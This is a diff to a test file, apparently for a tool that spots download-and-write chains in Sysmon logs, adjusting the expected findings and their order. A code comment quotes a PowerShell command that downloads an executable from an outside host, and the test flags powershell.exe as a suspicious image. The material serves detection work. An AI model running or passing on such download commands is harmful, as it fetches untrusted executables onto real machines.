@@ -123,9 +123,11 @@ test(
       isPublicAddress: (ip) => ip.startsWith('192.168.230.') || !/^(?:10|127|192\.168)\./.test(ip),
       isSuspiciousImage: (image) => /\\powershell\.exe$/i.test(image),
     });
-    const [finding, second] = findings;
+    const [finding] = findings;
 
-    assert.equal(findings.length, 2);
+    // `powershell -c iwr -uri http://msmoon.net/noom.exe` (process 693) is not a chain: noom.exe
+    // itself was not logged, only the CLR usage log every PowerShell writes, which is housekeeping.
+    assert.equal(findings.length, 1);
     assert.ok(finding);
     assert.equal(finding.severity, 'high');
     assert.equal(finding.processGuid, POWERSHELL);
@@ -137,8 +139,8 @@ test(
       finding.story?.map((step) => [step.step, step.evidence.recordId]),
       [
         ['process-start', '524'],
-        ['network', '527'],
         ['dns', '528'],
+        ['network', '527'],
         ['file-create', '526'],
       ],
     );
@@ -148,14 +150,6 @@ test(
         'address in that answer, and 10 ms later wrote C:\\Sysmon\\a.exe. Reported because the ' +
         'image is on the suspicious list and the file is executable content (3 files followed ' +
         'connections to this address).',
-    );
-    // `powershell -c iwr -uri http://msmoon.net/noom.exe`: noom.exe itself was not logged, only
-    // the CLR usage log written after the download, so the image alone makes it medium.
-    assert.equal(second?.severity, 'medium');
-    assert.equal(second?.processGuid, '{e6abc4a2-19af-659c-3d03-000000000b00}');
-    assert.deepEqual(
-      second?.story?.map((step) => step.evidence.recordId),
-      ['693', '696', '697', '695'],
     );
   },
 );
